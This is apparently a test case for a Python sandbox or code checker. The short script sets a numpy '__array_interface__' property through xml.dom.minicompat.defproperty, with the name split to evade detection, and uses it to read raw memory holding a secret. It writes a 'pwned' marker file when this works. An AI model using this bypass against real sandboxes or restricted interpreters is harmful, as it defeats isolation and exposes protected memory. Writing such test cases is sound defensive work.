# rule: reflection
# marker: pwned_f5_defproperty
# Family 5: xml.dom.minicompat.defproperty sets a property under any name on
# any class; `__array_interface__` makes numpy read the raw memory address it
# names (the program checks the bytes it read).
from pathlib import Path
from xml.dom.minicompat import defproperty

import numpy as np

secret = b"secret!!"

class C:
    def _get___array_interface__(self):
        return {"shape": (8,), "typestr": "|u1", "data": (id(secret) + 32, False), "version": 3}

defproperty(C, "__array_" + "interface__", "")
if bytes(np.asarray(C())) == secret:
    Path("pwned_f5_defproperty").write_text("ran")
